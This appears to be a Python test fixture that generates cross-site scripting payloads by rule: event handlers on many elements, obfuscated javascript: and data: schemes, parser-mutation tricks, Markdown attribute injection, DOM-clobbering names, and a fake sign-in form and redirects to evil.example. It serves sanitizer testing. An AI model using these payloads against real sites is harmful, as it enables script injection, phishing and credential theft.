"""Payloads made by rule: every event on every kind of element, every way to spell a scheme, every form of Markdown."""

from __future__ import annotations

from collections.abc import Iterator

EVENTS = """abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur cancel canplay canplaythrough change click
close command contentvisibilityautostatechange contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter
dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata
fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata
loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
mousewheel offline online pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter
pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize
scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange
stalled start storage submit suspend timeupdate toggle touchend touchmove touchstart transitioncancel transitionend
transitionrun transitionstart unhandledrejection unload volumechange waiting wheel""".split()
ELEMENTS = (
    "<img src=x on{}=alert(1)>",
    "<svg><animate attributeName=x dur=1s on{}=alert(1)>",
    "<body on{}=alert(1)>",
    '<details open on{}="alert(1)"><summary>x</summary></details>',
    "<input autofocus tabindex=0 on{}=alert(1)>",
    "<p tabindex=1 title=\"x\"on{}='alert(1)' class=note>x</p>",
)
RUN = "alert(1)"
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", "\u00a0javascript:alert(1)",
    "\u3000javascript:alert(1)", "javascript\t:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)",
    "java&#0;script:alert(1)", "java&#2;script:alert(1)", "&#127;javascript:alert(1)", "javascript&#x1f;:alert(1)", "java&#xfffe;script:alert(1)",
    "java\\script:alert(1)", "javascript%3Aalert(1)", "java%0ascript:alert(1)",
    "javascript://%0aalert(1)", "javascript:/**/alert(1)", "javascript:alert`1`", "javascript:'<script>alert(1)</script>'",
    "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "jar:javascript:alert(1)", "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "data:,alert(1)", "DATA:text/html,x",
    "blob:https://evil.example/1", "filesystem:https://evil.example/x", "file:///etc/passwd", "about:blank", "ftp://evil.example/",
    "ws://evil.example/", "webcal://evil.example/x.ics", "intent://evil#Intent;end", "ms-word:ofe|u|https://evil.example/x", "search-ms:query=x",
    "edblog:0", "edblog:remote:0", "edblog:99999999999", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x",
    " //evil.example/x", "/\t/evil.example/x", "///evil.example/x", "https:evil.example", "https:///evil.example",
    "http://evil.example:80\\@good.example/", "?javascript:alert(1)", "#javascript:alert(1)", "javascript:alert(1)//https://",
)  # fmt: skip
ADDRESSES = (
    "[x]({})", "[x](<{}>)", "[x]( {} 'title')", "[x][r]\n\n[r]: {}", '[r]: <{}> "t"\n\n[r]', "<{}>", "![x]({})", '![x](<{}> "caption")',
    "[![x]({0})]({0})", '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<img src="{}" alt=x>', '<area href="{}">',
    '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>', '<iframe src="{}"></iframe>', '<object data="{}">',
    '<embed src="{}">', '<base href="{}">', '<link rel=stylesheet href="{}">', '<link rel=prefetch href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<math href="{}">x</math>', '<math><mtext xlink:href="{}">x', '<q cite="{}">x</q>',
    '<blockquote cite="{}">x</blockquote>', '<script src="{}"></script>', '<video poster="{0}" src="{0}"></video>', '<audio src="{}">',
    '<source srcset="{}">', '<img srcset="{} 2x">', '<table background="{}"><tr><td>x</table>', '<body background="{}">', '<input type=image src="{}">',
    '<a ping="{0}" href="{0}">x</a>', "<p style=\"background:url('{}')\">x</p>", "<style>@import '{}';</style>", '<svg><image href="{}">',
    '<svg><use href="{}#x">', '<svg><feImage href="{}">', '<track src="{}">', '<portal src="{}">', '<frameset><frame src="{}">', '<isindex action="{}">',
)  # fmt: skip
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<template><script>alert(1)</script></template>",
    "<svg><desc><template><p><style></p></template><img src=x onerror=alert(1)>", "<select><noembed></select><script>alert(1)</script></noembed>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">', '<title><p id="</title><img src=x onerror=alert(1)>">',
    '<xmp><p id="</xmp><img src=x onerror=alert(1)>">', '<iframe><p id="</iframe><img src=x onerror=alert(1)>">', '<noframes><p id="</noframes><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>", '<!--<img src="--><img src=x onerror=alert(1)//">', "<!--><script>alert(1)</script>-->", "<!---!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml <script>alert(1)</script> ?>", "<!doctype html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<a/href='x'/onclick=alert(1)>x</a>", "<img/src='x'/onerror=alert(1)>", "<img src=x\x0conerror=alert(1)>", "<img\x00src=x onerror=alert(1)>", "<\x00script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<scri\npt>alert(1)</script>", "<script\x0b>alert(1)</script>", "<SCRIPT/XSS>alert(1)</SCRIPT>", "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)>", '<img alt="`><script>alert(1)</script>">', "<p title='a' \"onmouseover=alert(1)\">x", "<b <script>alert(1)</script>0", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus x='", "` onfocus=alert(1) `",
    "</article></main></body></html><script>alert(1)</script>", "</div></div></div><div style='position:fixed;inset:0'>covered</div>", "<svg/onload=alert(1)//", "<img src=x onerror=alert(1)//",
    "<table><td><svg><foreignObject><table><script>alert(1)</script>", "<math><annotation-xml encoding='text/html'><script>alert(1)</script>", "<math><mi><!--</mi><img src=x onerror=alert(1)>-->",
    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>", "<b id='</b><script>alert(1)</script>'>", '<a id="x"><a id="</a><script>alert(1)</script>">',
    "<details><summary><svg><style><img src=x onerror=alert(1)>", "<ruby><rt><svg><title><img src=x onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "{% raw %}<script>alert(1)</script>{% endraw %}",
    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "[[constructor.constructor('alert(1)')()]]", "<div is='x-evil' v-on:click=alert(1) @click=alert(1) x-data x-init=alert(1) ng-init=alert(1)>x</div>",
    "\u2028<script>alert(1)</script>", "\u202e<script>alert(1)</script>", "a\ud7ff\uffff<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\u0085<script>alert(1)</script>",
)  # fmt: skip
MARKDOWN = (
    "$\\href{javascript:alert(1)}{x}$", "$\\text{<img src=x onerror=alert(1)>}$", "$x onload=alert(1) y$", '<b title="$x" onclick="alert(1)$">x</b>',
    "![$x onerror=alert(1) y$](x)", "$$\n</math><script>alert(1)</script>\n$$", "```math\n\\class{eb-main}{</math><img src=x onerror=alert(1)>}\n```",
    "$\\style{position:fixed}{x}$ $\\unicode{x3c}$", "$\\nope{<script>alert(1)</script>}$", "> [!NOTE]\n> <script>alert(1)</script>",
    "<summary>*x*<script>alert(1)</script></summary>\n<details>", "==<script>alert(1)</script>==", "a~<b~ onclick=alert(1)>", "x^<script>^ alert(1)", ":smile<script>:",
    '```"><script>alert(1)</script>\ncode\n```', '``` {."onclick=alert(1)}\ncode\n```', "```html onclick=alert(1)\n<script>alert(1)</script>\n```", "~~~ { .py linenos=<script>alert(1)</script> }\nx\n~~~",
    "`<script>alert(1)</script>`", "``</code><script>alert(1)</script>``", "    <script>alert(1)</script>", "# Title {: onclick=alert(1) }", '# Title {: #x onmouseover="alert(1)" style="position:fixed" }',
    'para\n{: onclick=alert(1) style=x class="button masthead" id=eb-main }', "*em*{: onfocus=alert(1) tabindex=1 autofocus=1 }", "[x](y){: target=_blank rel=opener ping=https://evil.example/ download=x }",
    "![x](y){: onerror=alert(1) srcset=https://evil.example/ loading=eager }", '*[HTML]: "><script>alert(1)</script>\n\nHTML', "*[X<b>]: x\n\nX<b>", "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y', "x[^eb-main]\n\n[^eb-main]: y", "x[^__proto__]\n\n[^__proto__]: y", '!!! note "<script>alert(1)</script>"\n    x', '!!! "onclick=alert(1)"\n    x',
    "!!! masthead colophon skip\n    x", "term <script>alert(1)</script>\n:   def <img src=x onerror=alert(1)>", "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `|` |", '| a |\n|:-:" onclick=alert(1)|\n| b |',
    '<https://evil.example/"onclick=alert(1)>', '<a@b.example"onclick=alert(1)>', "<mailto:x@y.example?body=<script>alert(1)</script>>", '[x](https://evil.example/"onclick=alert(1))', '[x](y "title" onclick=alert(1))', "[x](y '\"><script>alert(1)</script>')",
    '!["><script>alert(1)</script>](y)', '![x](y "</figcaption><script>alert(1)</script>")', "[<script>alert(1)</script>](y)", "[x\\]()](javascript:alert(1))", "[x](javascript\\:alert(1))", "[x](java\nscript:alert(1))", '![x][y]\n\n[y]: z ""><script>alert(1)</script>"',
    "- [ ] <script>alert(1)</script>\n- [x] <img src=x onerror=alert(1)>", "1. <script>alert(1)</script>", "> <script>alert(1)</script>", "---\n<script>alert(1)</script>\n---", "<div markdown=1>\n*x*<script>alert(1)</script>\n</div>",
    "~~<script>alert(1)</script>~~", "**<script>alert(1)</script>**", "\\<script>alert(1)\\</script>", "\x02wzxhzdk:0\x03<script>alert(1)</script>\x02wzxhzdk:1\x03", "\x02klzzwxh:0001\x03", "\x02amp\x03lt;script\x02amp\x03gt;", "STX ETX \u0002\u0003 <b>", "[TOC]<script>alert(1)</script>",
    "Title\n===<script>alert(1)</script>", "# <img src=x onerror=alert(1)>", "## eb-main", "## edblog-problems", "## disqus_thread", "## module", "## constructor", "## __proto__", "## body", "## cookie",
)  # fmt: skip
LAYOUT = (
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red'>covered</p>", "<div class='masthead colophon skip unseen front button'>x</div>", "<dialog open>x</dialog>", "<div popover id=p>x</div><button popovertarget=p>x</button>",
    "<input type=password name=p>", "<form action=https://evil.example/><input name=q autofocus><button>Sign in</button></form>", "<label for=eb-main>x</label>", "<select><option>x</select>", "<textarea name=x>y</textarea>", "<marquee>x</marquee>", "<blink>x</blink>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", '<meta http-equiv=Content-Security-Policy content="default-src *">', "<base target=_blank href=https://evil.example/>", "<link rel='preload prefetch dns-prefetch preconnect modulepreload' as=image href=https://evil.example/>", "<a href=https://evil.example/ target=_top rel=opener>x</a>",
    "<p id=eb-main name=eb-main>x</p>", "<p id=eb-talk>x</p>", "<a name=eb-main id=isso-thread>x</a>", "<img id=documentElement name=documentElement>", "<img name=body><img name=cookie><img name=getElementById><img name=querySelectorAll>", "<form id=x name=attributes><input name=nodeName></form>",
    "<p contenteditable autofocus accesskey=x tabindex=9999 draggable=true spellcheck>x</p>", "<p hidden inert slot=x part=x is=x itemprop=x itemscope role=alert aria-live=assertive>x</p>", "<p data-eb-comments=auto data-eb-thread>x</p>", "<button data-eb-comments=auto>x</button>", "<p aria-labelledby=eb-main aria-owns=eb-main aria-hidden=true>x</p>",
    "<font size=99 color=red face=x>x</font>", "<center>x</center>", "<td colspan=99999 rowspan=99999>x", "<table><tr><td width=9999 height=9999 bgcolor=red>x</table>", "<img src=x width=99999 height=99999 style=position:fixed>", "<hr size=9999 width=9999>", "<bdo dir=rtl>x", '<p dir=rtl lang="x" onclick=alert(1)>x',
    "<html class=x><body class=y><main>x</main></body></html>", "<head><title>x</title></head>", "<header>x</header><footer>y</footer><nav>z</nav><main>w</main>", "<h1>Another title</h1>", "<slot name=x></slot>", "<canvas id=c></canvas>", "<keygen autofocus>", "<applet code=x>", "<bgsound src=https://evil.example/x>", "<layer src=https://evil.example/x>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """All of them, in the same order each time."""
    for event in EVENTS:
        yield from (element.format(event) for element in ELEMENTS)
    yield from SCHEMES
    for number, scheme in enumerate(SCHEMES):
        # Each scheme in a third of the places, and so each place with a third of the schemes.
        yield from (place.format(scheme) for place in ADDRESSES[number % 3 :: 3])
    yield from MUTATIONS
    yield from MARKDOWN
    yield from LAYOUT
